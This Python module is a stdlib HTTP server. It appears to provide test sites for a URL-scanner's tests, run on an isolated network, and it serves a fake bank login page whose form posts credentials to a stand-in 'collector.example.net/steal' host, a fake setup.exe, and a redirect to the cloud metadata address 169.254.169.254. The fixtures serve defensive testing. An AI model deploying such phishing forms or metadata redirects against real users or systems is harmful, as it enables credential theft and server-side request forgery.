"""The test sites the URL-scan tests fetch: a stdlib-only HTTP server.

It runs inside a container of the fetcher's own image on a ``docker network create
--internal`` network (see ``tests/scans_support.py``), so scans never leave the
machine; the unit tests of the fetch program also serve it on loopback. The page bodies
are module constants, so a test computes the expected hash and counts itself.

    python3 scans_sites.py [PORT]
"""

from __future__ import annotations

import sys
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

PORT = 8080
MIB = 1024 * 1024

PLAIN_HTML = b"""<!doctype html>
<html><head><title>Plain   test
 page</title>
<script src="/app.js"></script>
<script>var x = 1;</script>
</head><body>
<h1>Hello</h1>
<a href="/one">one</a> <a href="https://example.org/two">two</a> <a href="#three">three</a>
<a name="anchor-without-href">no link</a>
<form action="/search" method="get"><input type="text" name="q"></form>
<iframe src="/frame"></iframe>
</body></html>
"""
PLAIN_COUNTS = {"title": "Plain test page", "links": 3, "forms": 1, "scripts": 2, "iframes": 1,
                "password_field": False}

LOGIN_HTML = b"""<!doctype html>
<html><head><title>Sign in to your bank</title></head><body>
<form action="https://collector.example.net/steal" method="post">
<input type="text" name="user"><input type="password" name="pass"><button>Sign in</button>
</form>
</body></html>
"""
LOGIN_ACTION = "https://collector.example.net/steal"

REFRESH_HTML = b"""<html><head><meta http-equiv="refresh" content="0; url=/plain"><title>moving</title></head></html>"""
EXE_BODY = b"MZ\x90\x00" + b"\x00" * 1020

#: path → (status, location): a 3-hop chain ending on /plain.
REDIRECTS = {
    "/r1": (302, "/r2"),
    "/r2": (301, "/r3"),
    "/r3": (307, "/plain"),
    "/to-loopback": (302, "http://127.0.0.1:8080/plain"),
    "/to-metadata": (302, "http://169.254.169.254/latest/meta-data/"),
    "/to-ftp": (302, "ftp://files.example.org/"),
    "/loop": (302, "/loop"),
}


class Handler(BaseHTTPRequestHandler):
    """The routes the scan tests fetch (see the module constants)."""

    server_version = "scan-test-site/1.0"
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: object) -> None:
        sys.stderr.write("%s %s\n" % (self.address_string(), format % args))

    def do_GET(self) -> None:
        parts = urlsplit(self.path)
        path, query = parts.path, parse_qs(parts.query)
        if path in REDIRECTS:
            status, location = REDIRECTS[path]
            self.send_response(status)
            self.send_header("Location", location)
            self.send_header("Content-Length", "0")
            self.end_headers()
        elif path == "/plain":
            self._send(200, "text/html; charset=utf-8", PLAIN_HTML)
        elif path == "/login":
            self._send(200, "text/html; charset=utf-8", LOGIN_HTML)
        elif path == "/refresh":
            self._send(200, "text/html", REFRESH_HTML)
        elif path == "/download":
            self._send(200, "application/x-msdownload", EXE_BODY,
                       {"Content-Disposition": 'attachment; filename="setup.exe"'})
        elif path == "/slow":
            # Holds the request open: the scan must time out, not wait.
            time.sleep(float(query.get("seconds", ["60"])[0]))
            self._send(200, "text/html", b"<title>finally</title>")
        elif path in ("/big", "/huge"):
            # /big: 50 MB of text; /huge: HTML, which the fetcher keeps in memory to parse.
            size = int(float(query.get("mb", ["50"])[0]) * MIB)
            kind = "text/html" if path == "/huge" else "text/plain"
            self._stream(kind, size)
        else:
            self._send(404, "text/plain", b"not found")

    def _send(self, status: int, content_type: str, body: bytes, headers: dict[str, str] | None = None) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def _stream(self, content_type: str, size: int) -> None:
        self.send_response(200)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(size))
        self.end_headers()
        block = stream_block(content_type)
        sent = 0
        try:
            while sent < size:
                chunk = block[: min(len(block), size - sent)]
                self.wfile.write(chunk)
                sent += len(chunk)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the fetcher stops at its cap and hangs up


def stream_block(content_type: str) -> bytes:
    """The 64 KiB block a streamed body repeats (the tests hash its first bytes)."""
    unit = (b"<p>" + b"x" * 1020 + b"</p>\n") if content_type == "text/html" else b"0123456789abcdef" * 4096
    return (unit * (65536 // len(unit) + 1))[:65536]


def stream_prefix(content_type: str, size: int) -> bytes:
    """The first ``size`` bytes of a streamed body."""
    block = stream_block(content_type)
    return (block * (size // len(block) + 1))[:size]


def serve(port: int = PORT, host: str = "0.0.0.0") -> ThreadingHTTPServer:
    """A threaded server of the test sites (port 0: any free port)."""
    server = ThreadingHTTPServer((host, port), Handler)
    server.daemon_threads = True
    return server


if __name__ == "__main__":
    srv = serve(int(sys.argv[1]) if len(sys.argv) > 1 else PORT)
    print(f"listening on {srv.server_address[1]}", flush=True)
    srv.serve_forever()
